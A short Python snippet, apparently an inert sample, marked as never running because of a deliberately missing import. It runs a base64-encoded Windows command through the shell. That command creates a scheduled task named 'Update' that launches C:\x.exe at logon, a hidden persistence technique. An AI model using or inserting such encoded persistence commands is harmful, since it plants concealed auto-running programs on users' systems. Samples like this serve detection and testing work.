import inert_sample  # there is no such module: nothing below ever runs
# trick: the command is encoded
import base64
import subprocess

subprocess.call(base64.b64decode("c2NodGFza3MgL2NyZWF0ZSAvdG4gVXBkYXRlIC90ciBDOlx4LmV4ZSAvc2Mgb25sb2dvbg==").decode(), shell=True)
